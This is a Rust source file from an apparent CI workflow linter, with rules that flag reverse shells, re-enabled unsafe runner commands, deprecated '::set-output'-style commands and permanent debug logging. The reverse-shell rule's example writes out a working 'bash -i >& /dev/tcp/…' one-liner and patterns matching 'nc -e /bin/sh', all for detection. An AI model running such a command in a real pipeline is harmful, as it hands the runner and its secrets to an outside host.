//! Scripts that open a shell to the outside, and commands of the runner that are unsafe or gone.

use portcullis_model::actions::{Action, Job, Step, Workflow};
use portcullis_syntax::shell::{Command, RedirectKind};

use super::{ActionsCheck, Scope};
use crate::rule::prelude::*;

/// The rules of this file.
pub(super) static RULES: &[&Rule] = &[&REVERSE_SHELL, &INSECURE_COMMANDS, &DEPRECATED_COMMANDS, &DEBUG_ENABLED];

rule! {
    /// Script gives a shell to another machine
    ///
    /// A shell whose input and output are a connection (`/dev/tcp`, `nc -e`) hands the runner with its secrets to whoever
    /// answers. No build needs it; debugging has `tmate` with an access list.
    ///
    /// ```workflow bad:6
    /// on: push
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
    /// ```
    /// ```workflow good
    /// on: push
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: nc -z localhost 5432 && bash -c 'echo > /dev/tcp/localhost/5432' && echo "nc -e /bin/sh"
    /// ```
    REVERSE_SHELL = "actions-reverse-shell" {
        check: Check::Actions(ActionsCheck::Step(reverse_shell)),
        severity: Severity::Critical,
        tags: &["cwe-506"],
        peers: &["checkov:CKV_GHA_4"],
    }
}

const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "exec"];

fn reverse_shell(step: &Step<'_>, _: Scope<'_, '_>, report: &mut Report<'_>) {
    let text = step.run.map_or("", Node::text);
    if !text.contains("/dev/tcp") && !text.contains("nc") {
        return;
    }
    let Some(script) = step.script() else { return };
    for command in script.shell.commands.iter().filter(|command| connects(command) || listens(command)) {
        let program = command.program().unwrap_or_default();
        report
            .at((command.span, program), format!("`{program}` gives a shell to another machine"))
            .help("remove it, and find out who added it");
    }
}

/// `bash -i >& /dev/tcp/…`: a shell without a script of its own.
fn connects(command: &Command) -> bool {
    let is_remote = |text: &str| {
        let rest = text.strip_prefix("/dev/tcp/").or_else(|| text.strip_prefix("/dev/udp/"));
        rest.is_some_and(|rest| !rest.starts_with("localhost") && !rest.starts_with("127."))
    };
    let redirects = &command.redirects;
    let connected =
        redirects.iter().any(|redirect| redirect.kind != RedirectKind::Heredoc && is_remote(&redirect.target.text));
    connected && command.is_any(SHELLS) && !command.has_flag(&["-c"])
}

/// `nc -e /bin/sh …`
fn listens(command: &Command) -> bool {
    let runs = ["-e", "--exec", "-c", "--sh-exec"];
    command.is_any(&["nc", "ncat", "netcat"])
        && command.option_value(&runs).is_some_and(|value| {
            let program = value.text.rsplit('/').next().unwrap_or(value.text);
            SHELLS.contains(&program.split(' ').next().unwrap_or(program))
        })
}

rule! {
    /// Unsafe commands of the runner are allowed again
    ///
    /// `ACTIONS_ALLOW_UNSECURE_COMMANDS` brings `set-env` and `add-path` back: any line that a program prints, a test's output
    /// or a commit's message, can then set variables and paths of later steps.
    ///
    /// ```workflow bad:2
    /// on: push
    /// env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true }
    /// jobs:
    ///   build: { runs-on: ubuntu-latest, steps: [{ run: make }] }
    /// ```
    /// ```workflow good
    /// on: push
    /// env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: false }
    /// jobs:
    ///   build: { runs-on: ubuntu-latest, steps: [{ run: make }] }
    /// ```
    INSECURE_COMMANDS = "actions-insecure-commands" {
        check: Check::Actions(ActionsCheck::WorkflowAndAction(insecure_in_workflow, insecure_in_action)),
        severity: Severity::High,
        tags: &["cwe-77"],
        peers: &["zizmor:insecure-commands", "checkov:CKV_GHA_1", "kics:60fd272d"],
    }
}

fn insecure_in_workflow(workflow: &Workflow<'_>, report: &mut Report<'_>) {
    variables(workflow, |key, value| allows(key, value, report));
}

fn insecure_in_action(action: &Action<'_>, report: &mut Report<'_>) {
    for (key, value) in action.steps.iter().flat_map(|step| entries(step.node)) {
        allows(key, value, report);
    }
}

fn allows(key: Node<'_>, value: Node<'_>, report: &mut Report<'_>) {
    if key.text() == "ACTIONS_ALLOW_UNSECURE_COMMANDS" && value.text().eq_ignore_ascii_case("true") {
        report
            .at(value, "every line that a program prints can set variables of later steps")
            .help("remove it, and write to `$GITHUB_ENV` and `$GITHUB_PATH`");
    }
}

/// The entries of every `env` of a workflow.
fn variables<'t>(workflow: &Workflow<'t>, mut visit: impl FnMut(Node<'t>, Node<'t>)) {
    let jobs = workflow.jobs.iter().map(|job| job.node);
    let steps = workflow.jobs.iter().flat_map(|job: &Job<'t>| &job.steps).map(|step| step.node);
    for holder in [workflow.root].into_iter().chain(jobs).chain(steps) {
        for (key, value) in entries(holder) {
            visit(key, value);
        }
    }
}

fn entries(holder: Node<'_>) -> impl Iterator<Item = (Node<'_>, Node<'_>)> {
    holder.get("env").present().map(Node::entries).into_iter().flatten()
}

/// Commands that the runner no longer takes, and what to write to instead.
const GONE: &[(&str, &str)] = &[
    ("::set-output", "$GITHUB_OUTPUT"),
    ("::save-state", "$GITHUB_STATE"),
    ("::set-env", "$GITHUB_ENV"),
    ("::add-path", "$GITHUB_PATH"),
];

rule! {
    /// Command of the runner is gone
    ///
    /// `::set-output` and its sisters are printed, not obeyed, or soon will be: what follows goes without the value. Any output
    /// of a program could also forge them.
    ///
    /// ```workflow bad:8
    /// on: push
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: |
    ///           make
    ///           echo "::set-output name=version::1"
    /// ```
    /// ```workflow good
    /// on: push
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: |
    ///           echo "version=1" >> "$GITHUB_OUTPUT"
    ///           echo "::notice::done"
    /// ```
    DEPRECATED_COMMANDS = "actions-deprecated-commands" {
        check: Check::Actions(ActionsCheck::Step(deprecated_commands)),
        severity: Severity::Low,
        peers: &["actionlint:deprecated-commands"],
    }
}

fn deprecated_commands(step: &Step<'_>, _: Scope<'_, '_>, report: &mut Report<'_>) {
    let Some(run) = step.run.filter(|run| run.text().contains("::")) else { return };
    let Some((text, map)) = run.embedded() else { return };
    for (command, file) in GONE {
        for (at, _) in text.match_indices(command) {
            let rest = text.get(at.saturating_add(command.len())..).unwrap_or_default();
            // `::set-env name=X::`, `::add-path::`
            if !rest.starts_with(' ') && !rest.starts_with("::") {
                continue;
            }
            let start = u32::try_from(at).unwrap_or(u32::MAX);
            let end = start.saturating_add(u32::try_from(command.len()).unwrap_or(u32::MAX));
            let spot = (map.span(start, end), *command);
            report
                .at(spot, format!("`{command}` is no command of the runner any more"))
                .help(format!("write to `{file}`"));
        }
    }
}

rule! {
    /// Debug logging is always on
    ///
    /// `ACTIONS_RUNNER_DEBUG` and `ACTIONS_STEP_DEBUG` print what the runner and the actions do, values that are not masked
    /// among them, into logs that anybody may read who can read the repository.
    ///
    /// ```workflow bad:2
    /// on: push
    /// env: { ACTIONS_STEP_DEBUG: true }
    /// jobs:
    ///   build: { runs-on: ubuntu-latest, steps: [{ run: make }] }
    /// ```
    /// ```workflow good
    /// on: push
    /// env: { ACTIONS_STEP_DEBUG: "${{ vars.DEBUG }}" }
    /// jobs:
    ///   build: { runs-on: ubuntu-latest, steps: [{ run: make }] }
    /// ```
    DEBUG_ENABLED = "actions-debug-enabled" {
        check: Check::Actions(ActionsCheck::Workflow(debug_enabled)),
        severity: Severity::Low,
        tags: &["cwe-532"],
        peers: &["poutine:debug_enabled"],
    }
}

fn debug_enabled(workflow: &Workflow<'_>, report: &mut Report<'_>) {
    variables(workflow, |key, value| {
        let is_debug = matches!(key.text(), "ACTIONS_RUNNER_DEBUG" | "ACTIONS_STEP_DEBUG");
        if is_debug && matches!(value.text(), "true" | "1") {
            report
                .at(value, format!("`{}` is always on", key.text()))
                .help("remove it; a run can be repeated with debug logging");
        }
    });
}
